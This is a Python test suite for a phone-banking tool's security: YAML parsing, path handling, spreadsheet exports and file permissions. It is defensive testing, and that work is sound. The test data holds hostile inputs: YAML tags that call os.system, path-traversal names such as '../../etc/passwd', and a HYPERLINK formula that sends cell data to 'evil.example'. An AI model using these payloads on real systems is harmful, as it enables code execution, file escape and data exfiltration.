"""Security suite: scripts.yaml cannot run code, names and paths cannot leave the workspace, exports are
safe in spreadsheets, and voter data and the roster are private even under a permissive umask.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import subprocess
import sys
from collections import Counter
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from phonebank.cli import cli
from phonebank.dnc import append_dnc
from phonebank.errors import MESSAGE_MAX, bounded
from phonebank.exports.output import write_private
from phonebank.exports.safecsv import TRIGGERS
from phonebank.importer import run_import
from phonebank.results import ResultRow
from phonebank.roster import add_volunteer, config_dir, remember_email
from phonebank.script import load_script
from phonebank.store.files import FileStore
from phonebank.workspace import Workspace

import figures
from callkit import ANA, Clock, la, make_workspace

REPO = Path(__file__).resolve().parent.parent
PHONEBANK = str(Path(sys.executable).with_name("phonebank"))
SAMPLE = (REPO / "scripts.yaml").read_text(encoding="utf-8")
NOW = "2017-03-20T18:00:00-07:00"
CHECKED: Counter[str] = Counter()


@pytest.fixture(scope="module", autouse=True)
def _figures():
    yield
    figures.record("security", ", ".join(f"{n} {what}" for what, n in CHECKED.items()))


def run(ws: Path, *args: str, input: str | None = None, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(cli, ["--workspace", str(ws), *args], input=input, env=env, catch_exceptions=False)


def one_line_error(result: Result, code: int = 2) -> str:
    assert result.exit_code == code, (result.exit_code, result.output[-400:])
    assert "Traceback" not in result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), lines
    return lines[0][len("Error: "):]


def tree(root: Path) -> dict[str, bytes | None]:
    """Every path under ``root`` with its bytes (None for a folder)."""
    return {str(p.relative_to(root)): (p.read_bytes() if p.is_file() else None) for p in sorted(root.rglob("*"))}


def edit(old: str, new: str) -> str:
    assert SAMPLE.count(old) == 1, old
    return SAMPLE.replace(old, new)


# -- scripts.yaml cannot execute code -------------------------------------------------------------

def payloads(marker: Path) -> dict[str, tuple[str, str]]:
    """(script text, the tag named in the error) for every way we know to ask PyYAML for Python objects."""
    touch = f"['touch {marker}']"
    question = "      en: Knew about the April 4 election before the call?"
    apply = "!!python/object/apply:os.system"
    return {
        "object/apply": (edit("version: 1", f"version: {apply} {touch}"), apply),
        "object/new": (edit("version: 1", f"version: !!python/object/new:os.system {touch}"),
                       "!!python/object/new:os.system"),
        "name": (edit("version: 1", "version: !!python/name:os.system"), "!!python/name:os.system"),
        "module": (edit("version: 1", "version: !!python/module:os"), "!!python/module:os"),
        "object": (edit("version: 1", "version: !!python/object:os.PathLike {}"), "!!python/object:os.PathLike"),
        "tuple": (edit("languages: [en, es]", "languages: !!python/tuple [en, es]"), "!!python/tuple"),
        "apply inside a question text": (edit(question, f"      en: {apply} {touch}"), apply),
        "apply as a mapping key": (edit("version: 1", f"? {apply} {touch}\n: 1\nversion: 1"), apply),
        "apply under an unused anchor": (edit("version: 1", f"version: 1\nx: &p {apply} {touch}"), apply),
        "verbatim tag": (edit("version: 1", f"version: !<tag:yaml.org,2002:python/object/apply:os.system> "
                                            f"{touch}"), apply),
        "%TAG shorthand": ("%TAG !p! tag:yaml.org,2002:python/\n---\n"
                           + edit("version: 1", f"version: !p!object/apply:os.system {touch}"), apply),
        "apply in a flow list": (edit("languages: [en, es]", f"languages: [en, {apply} {touch}]"), apply),
    }


@pytest.mark.parametrize("case", list(payloads(Path("/x"))))
def test_python_tags_never_run(tmp_path: Path, case: str) -> None:
    marker = tmp_path / "PWNED"
    ws = make_workspace(tmp_path / "ws")
    text, tag = payloads(marker)[case]
    (ws.root / "scripts.yaml").write_text(text, encoding="utf-8")
    before = tree(ws.root)
    for args in (["check"], ["script", "preview"], ["call", "--email", "ana@example.org", "--list", "test"],
                 ["export", "results"], ["report"]):
        message = one_line_error(run(ws.root, *args))
        assert f"tag {tag} is not allowed — scripts.yaml holds plain text and numbers only; remove the tag" in message
        assert not marker.exists(), f"{case}: scripts.yaml ran a command"
    assert tree(ws.root) == before
    CHECKED["code-execution payloads rejected"] += 1


@pytest.mark.parametrize(("old", "new", "fragment"), [
    ("  name: Arturo Carmona for Congress", "  name: !!binary QXJ0dXJv", "campaign.name: expected text, got bytes"),
    ("      en: Knew about the April 4 election before the call?", "      en: !!binary S25ldw==",
     "questions[1].text: expected text, got bytes"),
    ("  name: Arturo Carmona for Congress", "  name: !!binary '@@@ not base64'", "failed to decode base64 data"),
    ('branches: {"yes": berniecrat, "no": organizer, not_sure: organizer}', 'branches: !!set {"yes", "no"}',
     "tag !!set is not allowed — write a plain list like [en, es] or a plain mapping"),
    ("    text:\n      en: Knew about", "    text: !!set {en}\n    text_was:\n      en: Knew about",
     "tag !!set is not allowed — write a plain list like [en, es] or a plain mapping"),
], ids=["binary name", "binary question text", "binary not base64", "set as branches", "set as a text"])
def test_binary_and_set_values_are_rejected(tmp_path: Path, old: str, new: str, fragment: str) -> None:
    ws = make_workspace(tmp_path / "ws")
    (ws.root / "scripts.yaml").write_text(edit(old, new), encoding="utf-8")
    assert fragment in one_line_error(run(ws.root, "check"))
    CHECKED["code-execution payloads rejected"] += 1


def test_a_set_of_languages_is_rejected(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws")
    (ws.root / "scripts.yaml").write_text(edit("languages: [en, es]", "languages: !!set {en, es}"), encoding="utf-8")
    one_line_error(run(ws.root, "check"))


# -- names and paths cannot escape the workspace --------------------------------------------------

BAD_NAMES = ["../../etc/passwd", "/etc/passwd", "a/b", "..", ".", "a\x00b", "x" * 300, ".hidden", "../escaped",
             "~", "lists/../t", "a\\b", " ", "t\n", "t\r", "-t"]


@pytest.fixture(scope="module")
def called(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace with one list ('test') and a saved call, inside a folder with nothing else."""
    outer = tmp_path_factory.mktemp("outer")
    ws = make_workspace(outer / "ws")
    q = FileStore(ws, load_script(ws.script_path), "test", Clock(la(2017, 3, 20, 18, 0)))
    offer = q.next_voter(ANA.email)
    q.save(ResultRow(recorded_at=NOW, volunteer=ANA.email, list="test", voter_id=offer.voter_id,
                       phone=offer.phones[0], code="supporter"))
    q.close()
    load_script(ws.script_path)  # with the index folder made: the validated script kept, as after any command
    assert (ws.index_dir / "script.msgpack").is_file()
    return ws.root


def commands_with_list(src: Path) -> dict[str, list[str]]:
    return {
        "import": ["import", str(src), "--list"],
        "call": ["call", "--email", "ana@example.org", "--plain", "--list"],
        "report": ["report", "--list"],
        "export": ["export", "results", "--list"],
    }


@pytest.mark.parametrize("command", ["import", "call", "report", "export"])
def test_list_names_cannot_escape_the_workspace(called: Path, tmp_path: Path, command: str) -> None:
    src = tmp_path / "voters.csv"
    src.write_bytes(b"VANID,FirstName,LastName,Cell Phone\n1,Ana,Reyes,2135550101\n")
    outer = called.parent
    before = tree(outer)
    env = {"PHONEBANK_HOME": str(tmp_path / "home"), "PHONEBANK_NOW": NOW}
    for name in BAD_NAMES:
        result = run(called, *commands_with_list(src)[command], name, env=env, input="q\n")
        message = one_line_error(result)
        shown = bounded(repr(name) if name else "''")  # a long name is shortened in the middle
        assert message.startswith(f"invalid list name {shown} — use letters, digits, '.', '_' or '-'"), message
        assert len(message) <= MESSAGE_MAX
        assert "\n" not in message
        CHECKED["escaping list names refused"] += 1
    assert tree(outer) == before, "a refused name changed files"
    assert not Path("/etc/passwd.csv").exists() and not (outer / "escaped.csv").exists()


@pytest.mark.parametrize(("option", "command"), [("--output", ["export", "results"]), ("--html", ["report"])])
def test_output_paths_with_a_nul_byte_or_onto_workspace_data_are_refused(called: Path, tmp_path: Path,
                                                                         option: str, command: list[str]) -> None:
    before = tree(called.parent)
    cases = {
        f"{tmp_path}/out\x00.csv": f"{option} contains a NUL byte — give a plain file name",
        str(called / "lists" / "test.csv"): "would overwrite the workspace's own data (lists/test.csv)",
        str(called / "scripts.yaml"): "would overwrite the workspace's own data (scripts.yaml)",
        str(called / "volunteers.csv"): "would overwrite the workspace's own data (volunteers.csv)",
        str(called / ".phonebank" / "test.sqlite"): "would overwrite the workspace's own data (.phonebank",
        str(called / "results" / "test" / "x.csv"): "would overwrite the workspace's own data (results",
        str(called / "lists" / ".." / "do-not-call.csv"): "would overwrite the workspace's own data (do-not-call.csv)",
        str(tmp_path / "no-such-folder" / "out.csv"): "does not exist — create it first",
        str(tmp_path): "is a folder",
    }
    for path, fragment in cases.items():
        message = one_line_error(run(called, *command, option, path))
        assert fragment in message, message
        CHECKED["unsafe output paths refused"] += 1
    assert tree(called.parent) == before


# -- exports neutralize spreadsheet formulas, end to end ------------------------------------------

def test_export_neutralizes_formulas_end_to_end(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    shutil.copyfile(REPO / "scripts.yaml", ws / "scripts.yaml")
    evil_name = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    src = tmp_path / "voters.csv"
    with open(src, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["VANID", "FirstName", "LastName", "Cell Phone", "City"])
        w.writerow(["101", evil_name, "+SUM(1,2)", "2135550101", "-2+3"])
        w.writerow(["102", "Bo", "Kim", "2135550102", "@cmd"])
    assert run(ws, "import", str(src), "--list", "t").exit_code == 0
    env = {"PHONEBANK_HOME": str(tmp_path / "home"), "PHONEBANK_NOW": NOW}
    register = ["y", "Ana", "Reyes", "90033"]
    voter_1 = ["s", "1", "1", "1", "@SUM(A1)", "s"]  # script, yes, yes, supporter, the note, save
    voter_2 = ["s", "1", "1", "1", "=1+1\t", "s"]
    result = run(ws, "call", "--email", "ana@example.org", "--plain", "--list", "t", env=env,
                 input="\n".join([*register, *voter_1, *voter_2, "q"]) + "\n")
    assert result.exit_code == 0, result.output[-800:]
    out = tmp_path / "results.csv"
    exported = run(ws, "export", "results", "--list", "t", "--output", str(out))
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 2
    by_id = {r["voter_id"]: r for r in rows}
    assert by_id["101"]["first_name"] == "'" + evil_name
    assert by_id["101"]["last_name"] == "'+SUM(1,2)"
    assert by_id["101"]["note"] == "'@SUM(A1)"
    assert by_id["102"]["note"].startswith("'=1+1")
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
    assert not [c for c in cells if c[:1] in TRIGGERS], "a cell a spreadsheet would run"
    screen = run(ws, "export", "supporters", "--list", "t").stdout  # the same on the screen
    assert "'=HYPERLINK(" in screen and '"=' not in screen
    CHECKED["formula cells neutralized end to end"] += len([c for c in cells if c.startswith("'")])


# -- voter data and the roster are private, whatever the umask ------------------------------------

def private(path: Path) -> bool:
    """No access for group and others. An empty lock file (.phonebank/LIST.lock) holds no data and
    sits in the private .phonebank/ folder: it does not count."""
    if path.suffix == ".lock" and path.stat().st_size == 0 and private(path.parent):
        return True
    return stat.S_IMODE(path.stat().st_mode) & 0o077 == 0


@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def test_library_writes_are_private_under_umask_022(tmp_path: Path, umask_022: None) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    shutil.copyfile(REPO / "scripts.yaml", root / "scripts.yaml")
    ws = Workspace(root)
    src = tmp_path / "voters.csv"
    src.write_bytes(b"VANID,FirstName,LastName,Cell Phone\n1,Ana,Reyes,2135550101\n2,Bo,Kim,\n3,Cy,Lu,2135550103\n")
    run_import(ws, src, "t")  # lists/ created by the import
    add_volunteer(ws.roster_path, ANA)
    append_dnc(ws.dnc_path, [("+12135550199", NOW, "call", "refused")])
    q = FileStore(ws, load_script(ws.script_path), "t", Clock(la(2017, 3, 20, 18, 0)))
    offer = q.next_voter(ANA.email)
    q.save(ResultRow(recorded_at=NOW, volunteer=ANA.email, list="t", voter_id=offer.voter_id,
                       phone=offer.phones[0], code="supporter"))
    remember_email(root, ANA.email)
    export = tmp_path / "exports" / "supporters.csv"
    export.parent.mkdir()
    write_private(export, "voter_id\r\n1\r\n")
    expected = [ws.list_path("t"), ws.rejects_path("t"), ws.roster_path, ws.dnc_path, *ws.results_files("t"),
                q.db_path, export, config_dir() / "logins.json"]
    expected += sorted(q.db_path.parent.glob("t.sqlite-*"))  # the index's -wal and -shm
    assert len(expected) >= 10, expected
    written = [p for p in root.rglob("*") if p.name != "scripts.yaml"]
    assert set(expected) - {export, config_dir() / "logins.json"} <= set(written)
    leaky = [str(p) for p in [*expected, *written] if not private(p)]
    q.close()
    assert leaky == [], f"readable by other users: {leaky}"
    CHECKED["private files and folders (library, umask 022)"] += len(set(expected) | set(written))


def test_cli_writes_are_private_under_umask_022(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir(mode=0o755)
    shutil.copyfile(REPO / "scripts.yaml", ws / "scripts.yaml")
    src = tmp_path / "voters.csv"
    src.write_bytes(b"VANID,FirstName,LastName,Cell Phone\n1,Ana,Reyes,2135550101\n2,Bo,Kim,\n3,Cy,Lu,2135550103\n")
    dnc_src = tmp_path / "dnc.txt"
    dnc_src.write_text("(213) 555-0199\n")
    env = {"PHONEBANK_HOME": str(tmp_path / "home"), "PHONEBANK_NOW": NOW}

    def phonebank(*args: str, input: str = "") -> None:
        result = CliRunner().invoke(cli, ["--workspace", str(ws), *args], input=input, env=env,
                                    catch_exceptions=False)
        assert result.exit_code == 0, (args, result.output)

    umask = os.umask(0o022)  # the commands run in this process, under the usual umask
    try:
        phonebank("import", str(src), "--list", "t")
        phonebank("dnc", "add", str(dnc_src))
        phonebank("call", "--email", "ana@example.org", "--plain",
                  input="y\nAna\nReyes\n90033\ns\n1\n1\n1\nnote\ns\ni\nf\n\ns\nq\n")  # supporter, refused
        phonebank("export", "results", "--output", str(tmp_path / "results.csv"))
        phonebank("report", "--html", str(tmp_path / "report.html"))
    finally:
        os.umask(umask)
    written = [p for p in ws.rglob("*") if p.name != "scripts.yaml"]
    names = {p.relative_to(ws).as_posix() for p in written}
    for expected in ("lists/t.csv", "lists/t.rejects.csv", "volunteers.csv", "do-not-call.csv",
                     "results/t/ana@example.org.csv", ".phonebank/t.sqlite"):
        assert expected in names, sorted(names)
    written += [tmp_path / "results.csv", tmp_path / "report.html", *(tmp_path / "home").rglob("*")]
    leaky = [str(p) for p in written if not private(p)]
    assert leaky == [], f"readable by other users: {leaky}"
    CHECKED["private files and folders (CLI, umask 022)"] += len(written)


def test_report_cache_and_torn_rows_are_private(called: Path, tmp_path: Path, umask_022: None) -> None:
    """Files written later in a workspace's life: the torn-row side file and whatever `report` caches."""
    called = Path(shutil.copytree(called, tmp_path / "ws"))
    ws = Workspace(called)
    before = set(called.rglob("*"))
    path = ws.results_files("test")[0]
    with open(path, "ab") as fh:
        fh.write(b"deadbeef,2017-03-20T18:00:00-07:00,ana@example.org,te")  # a torn last row
    q = FileStore(ws, load_script(ws.script_path), "test", Clock(la(2017, 3, 20, 18, 5)))
    offer = q.next_voter(ANA.email)
    q.save(ResultRow(recorded_at=NOW, volunteer=ANA.email, list="test", voter_id=offer.voter_id,
                       phone=offer.phones[0], code="not_home"))
    q.close()
    assert run(called, "report", "--list", "test").exit_code == 0
    new = [p for p in called.rglob("*") if p not in before]
    assert any(p.name.endswith(".torn") for p in new)
    leaky = [str(p) for p in new if not private(p)]
    assert leaky == [], f"readable by other users: {leaky}"
    CHECKED["private files and folders (library, umask 022)"] += len(new)


# -- one boundary: bounded one-line errors, the apology, escapes ------------------------------------

def test_an_unexpected_exception_is_one_line_of_apology_or_raised_for_tests(called: Path, monkeypatch) -> None:
    import phonebank.commands.check_cmd as check_cmd

    def broken(ws):
        raise RuntimeError("a bug " + "x" * 10_000)

    monkeypatch.setattr(check_cmd, "check_workspace", broken)
    with pytest.raises(RuntimeError):  # the conftest sets PHONEBANK_RAISE_ERRORS: tests see the real exception
        run(called, "check")
    monkeypatch.delenv("PHONEBANK_RAISE_ERRORS")
    result = CliRunner().invoke(cli, ["--workspace", str(called), "check"])
    assert result.exit_code == 1 and result.exception is None or isinstance(result.exception, SystemExit)
    message = one_line_error(result, code=1)
    assert message.startswith("phonebank hit an unexpected problem (RuntimeError) and stopped; saved calls are kept")
    assert "report it" in message and "PHONEBANK_RAISE_ERRORS=1" in message and "xxxx" not in message


def test_error_lines_are_bounded_and_show_control_characters() -> None:
    from phonebank.termsafe import for_screen, has_controls, visible, visible_keep_lines

    line = bounded("invalid list name '" + "a" * 100_000 + "' — use letters")
    assert len(line) <= MESSAGE_MAX and "…" in line and line.endswith("' — use letters")
    assert bounded("two\nlines\r\nhere") == "two lines here"
    assert bounded("x " * 1000).endswith("…") and len(bounded("x " * 1000)) == MESSAGE_MAX
    assert bounded("keeps  two spaces") == "keeps  two spaces"
    assert visible("\x1b]0;t\x07\x1b[2J\u202e\udcff\n\t\x00") == "\\e]0;t\\x07\\e[2J\\u202e\\udcff\\n\\t\\x00"
    assert visible("José Hernández — 90012") == "José Hernández — 90012"
    assert visible_keep_lines("a\x1b\r\nb\n") == "a\\e\r\nb\n"
    assert has_controls("a\x07") and not has_controls("Peña")

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    assert for_screen("=\x1b[31m\n", Terminal()) == "=\\e[31m\n"
    assert for_screen("=\x1b[31m\n", io.StringIO()) == "=\x1b[31m\n"  # into a file or pipe: byte-exact data
    CHECKED["boundary checks"] += 9


def test_every_command_taking_a_list_fails_the_same_way(called: Path) -> None:
    for command in (["report", "--list", "nope"], ["export", "results", "--list", "nope"],
                    ["call", "--plain", "--email", "ana@example.org", "--list", "nope"]):
        message = one_line_error(run(called, *command, env={"PHONEBANK_NOW": NOW}), code=2)
        assert message.startswith("no list named 'nope'") and "available: test" in message, message
    for command in (["report", "--list", ""], ["export", "results", "--list", ""], ["import", "x.csv", "--list", ""],
                    ["call", "--plain", "--email", "ana@example.org", "--list", ""]):
        assert one_line_error(run(called, *command)).startswith("invalid list name ''")
    for name in ("u.rejects", "test.rejects", "T.Rejects"):
        assert "would be mistaken for the rejects file" in one_line_error(run(called, "import", "x.csv", "--list", name))
    CHECKED["list picker checks"] += 10


# -- links: nothing written through them ----------------------------------------------------------

def test_library_writes_refuse_links_inside_a_workspace_only(tmp_path: Path) -> None:
    from phonebank.errors import UnsafePath
    from phonebank.fsutil import atomic_write, durable_append, ensure_private_dir

    root = tmp_path / "ws"
    (root / "results").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.csv").write_bytes(b"keep\n")
    Workspace(root)  # registers the root
    (root / "results" / "linked.csv").symlink_to(outside / "victim.csv")
    (root / "results" / "dir").symlink_to(outside, target_is_directory=True)
    with pytest.raises(UnsafePath, match=r"^results/linked.csv in the workspace is a symbolic link"):
        durable_append(root / "results" / "linked.csv", b"row\n", b"h\n")
    with pytest.raises(UnsafePath, match="results/dir in the workspace is a symbolic link"):
        durable_append(root / "results" / "dir" / "new.csv", b"row\n", b"h\n")
    with pytest.raises(UnsafePath):
        with atomic_write(root / "results" / "linked.csv") as fh:
            fh.write("x")
    with pytest.raises(UnsafePath):
        ensure_private_dir(root / "results" / "dir" / "sub")
    assert sorted(p.name for p in outside.iterdir()) == ["victim.csv"]
    assert (outside / "victim.csv").read_bytes() == b"keep\n"
    # outside every workspace (the user's config folder, an export path) a link is the user's own choice
    (tmp_path / "config").symlink_to(outside, target_is_directory=True)
    durable_append(tmp_path / "config" / "log.csv", b"row\n", b"h\n")
    assert (outside / "log.csv").read_bytes() == b"h\nrow\n"
    CHECKED["links refused (library)"] += 4


def test_the_torn_tail_repair_cuts_only_the_file_it_names(tmp_path: Path) -> None:
    from phonebank.errors import UnsafePath
    from phonebank.fsutil import set_aside_torn_tail

    root = tmp_path / "ws"
    (root / "results").mkdir(parents=True)
    Workspace(root)
    outside = tmp_path / "victim.csv"
    outside.write_bytes(b"line\ntorn")
    named = root / "results" / "a.csv"
    named.write_bytes(b"mine\n")
    fd = os.open(outside, os.O_RDWR)
    try:
        with pytest.raises(UnsafePath):
            set_aside_torn_tail(named, fd, os.fstat(fd).st_size)  # a descriptor of another file than the one named
    finally:
        os.close(fd)
    assert outside.read_bytes() == b"line\ntorn" and not (root / "results" / "a.csv.torn").exists()


# -- bounded readers ----------------------------------------------------------------------------

def test_a_named_pipe_is_imported_not_read_as_empty(tmp_path: Path, called: Path) -> None:
    ws = Path(shutil.copytree(called, tmp_path / "ws"))
    fifo = tmp_path / "voters.pipe"
    os.mkfifo(fifo)
    import threading

    writer = threading.Thread(target=lambda: fifo.write_bytes(b"VANID,FirstName,LastName,Cell Phone\n"
                                                              b"1,Ana,Reyes,2135550101\n2,Bo,Kim,2135550102\n"))
    writer.start()
    result = run(ws, "import", str(fifo), "--list", "piped")
    writer.join()
    assert result.exit_code == 0, result.output
    assert f"Imported 2 voters from {fifo}" in result.output
    shell = subprocess.run(["bash", "-c", f"{PHONEBANK} --workspace {ws} import <(printf 'VANID,Name,Cell Phone\\n9,"
                            "Ann Lee,2135550109\\n') --list subst --dry-run"], capture_output=True, text=True)
    assert shell.returncode == 0 and "would import 1 voters" in shell.stdout, shell.stderr
    assert "is a device" in one_line_error(run(ws, "import", "/dev/zero", "--list", "z"))
    assert "is a device" in one_line_error(run(ws, "dnc", "add", "/dev/zero"))
    CHECKED["pipes and devices"] += 4


def test_a_workbook_is_read_within_its_budget(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    from phonebank.errors import ImportFailed
    from phonebank.importer.xlsx import read_xlsx

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["VANID", "FirstName", "Cell Phone"])
    for i in range(5):
        sheet.append([f"00{i}", "Ana", 2135550100 + i])
    sheet["A20"] = "stray"  # a blank gap, then a row: read, with its own row number
    path = tmp_path / "v.xlsx"
    book.save(path)
    src = read_xlsx(path, "v.xlsx")
    assert src.table.column("VANID").to_pylist() == ["000", "001", "002", "003", "004", "stray"]
    assert src.table.column("Cell Phone").to_pylist()[0] == "2135550100"
    assert src.lines.tolist() == [2, 3, 4, 5, 6, 20]
    with pytest.raises(ImportFailed, match=r"^v.xlsx:4: more than 3 rows"):
        read_xlsx(path, "v.xlsx", max_rows=3)
    with pytest.raises(ImportFailed, match=r"^v.xlsx:3: more than 8 cells"):
        read_xlsx(path, "v.xlsx", max_cells=8)
    with pytest.raises(ImportFailed, match=r"^v.xlsx:1: a value in column 3 \(at most 2 columns\)"):
        read_xlsx(path, "v.xlsx", max_columns=2)


def test_scripts_yaml_is_bounded(tmp_path: Path) -> None:
    from phonebank.errors import ScriptError
    from phonebank.script.load import MAX_ALIASES, MAX_BYTES, MAX_PROBLEMS, parse_script

    def problems(text: str) -> list[str]:
        with pytest.raises(ScriptError) as err:
            parse_script(text)
        return err.value.problems

    assert problems("x" * (MAX_BYTES + 1))[0].startswith("scripts.yaml: the text is 1,048,577 characters")
    many = SAMPLE + "one: &o 1\nmany: [" + ", ".join(["*o"] * (MAX_ALIASES + 1)) + "]\n"
    assert f"more than {MAX_ALIASES:,} aliases" in problems(many)[0]
    big = SAMPLE + "big: &b '" + "x" * 20_000 + "'\n" + "".join(f"b{i}: *b\n" for i in range(60))
    assert "expand to more than 1,048,576 characters" in problems(big)[0]
    found = problems(SAMPLE + "".join(f"k{i}: 1\n" for i in range(200)))
    assert len(found) == MAX_PROBLEMS + 1 and found[-1] == "... and 150 more problems — fix these first"
    assert len(set(found)) == len(found)
    CHECKED["scripts.yaml bounds"] += 4


# -- the workspace's CSVs are records, not spreadsheets -----------------------------------------

def test_check_says_which_files_are_safe_to_open_and_counts_formula_cells(called: Path, tmp_path: Path) -> None:
    from phonebank.records import RECORDS_NOTE, formula_cells

    ws = Path(shutil.copytree(called, tmp_path / "ws"))
    sample = tmp_path / "f.csv"
    sample.write_bytes(b'a,b,c\n=HYPERLINK("x"),+12135550101,-5\n"@SUM(1)",-x,+\n1,"=1",2\n')
    assert formula_cells(sample) == 4  # =HYPERLINK, @SUM, -x, "=1"; not +1213..., -5 or a lone +
    result = run(ws, "check", env={"PHONEBANK_NOW": NOW})
    assert f"  Files: {RECORDS_NOTE}" in result.stdout and "formulas" not in result.stderr
    with open(ws / "lists" / "test.csv", "ab") as fh:
        fh.write(b'V9,=HYPERLINK("http://evil"),x,+12135550199,,90033,Los Angeles,CA,en,,,,\n')
    result = run(ws, "check", env={"PHONEBANK_NOW": NOW})
    assert ("Warning: lists/test.csv: 1 cell(s) a spreadsheet would run as formulas (such as =HYPERLINK(...)) — never "
            "open this file in a spreadsheet; use `phonebank export`") in result.stderr
    CHECKED["record files scanned for formulas"] += 2
